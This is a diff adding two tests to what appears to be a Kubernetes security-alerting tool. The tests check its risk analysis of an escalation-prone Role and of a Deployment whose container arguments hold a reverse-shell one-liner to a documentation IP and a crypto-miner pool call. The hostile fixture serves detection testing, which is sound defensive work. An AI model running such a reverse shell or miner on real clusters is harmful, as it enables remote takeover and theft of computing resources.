@@ -164,4 +164,59 @@ describe('risks: the analysis raises risks and severity on real alerts', functio
     assert.ok(ids(a).includes('namespace.pss-enforce-privileged'), `${ids(a)}`);
     assert.equal(a.spec.severity, 'High');
   });
+
+  it('a Role in a namespace: role-created raises its escalation paths, scoped to the namespace', async () => {
+    const role = await create(c, `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles`, {
+      apiVersion: 'rbac.authorization.k8s.io/v1',
+      kind: 'Role',
+      metadata: { name: 'build-bot' },
+      rules: [
+        { apiGroups: [''], resources: ['pods'], verbs: ['create'] },
+        { apiGroups: [''], resources: ['pods/ephemeralcontainers'], verbs: ['patch'] },
+        { apiGroups: [''], resources: ['events'], verbs: ['delete'] },
+        { apiGroups: ['rbac.authorization.k8s.io'], resources: ['rolebindings'], verbs: ['create'] },
+      ],
+    });
+    const a = await alertOf(c, op, role, 'role-created');
+    assert.deepEqual(ids(a).sort(), [
+      'clusterrole.events-delete',
+      'clusterrole.pods-ephemeral-containers',
+      'clusterrole.rbac-write',
+      'clusterrole.workload-create',
+    ]);
+    for (const r of a.spec.risks ?? []) assert.match(r.message, new RegExp(`in namespace ${ns}:`), r.id);
+    assert.equal(a.spec.severity, 'High', 'raised from the detection’s Low by pods/ephemeralcontainers');
+  });
+
+  it('a Deployment whose container mines and calls back: the heuristics name it, never the command', async () => {
+    const d = await create(c, `/apis/apps/v1/namespaces/${ns}/deployments`, {
+      apiVersion: 'apps/v1',
+      kind: 'Deployment',
+      metadata: { name: 'metrics-cache' },
+      spec: {
+        selector: { matchLabels: { app: 'metrics-cache' } },
+        template: {
+          metadata: { labels: { app: 'metrics-cache' } },
+          spec: {
+            containers: [
+              {
+                name: 'cache',
+                image: 'registry.example.com/cache:1.0',
+                command: ['sh', '-c'],
+                args: [
+                  'bash -i >& /dev/tcp/203.0.113.77/443 0>&1 & ./kcache -o stratum+tcp://pool-never-in-an-alert:3333',
+                ],
+              },
+            ],
+          },
+        },
+      },
+    });
+    const a = await alertOf(c, op, d, 'workload-created');
+    for (const want of ['heuristic.reverse-shell', 'heuristic.miner'])
+      assert.ok(ids(a).includes(want), `${want} in ${ids(a)}`);
+    assert.equal(a.spec.severity, 'Critical', 'raised from the detection’s Low by the reverse shell');
+    const risks = JSON.stringify(a.spec.risks);
+    assert.doesNotMatch(risks, /pool-never-in-an-alert|203\.0\.113\.77/);
+  });
 });
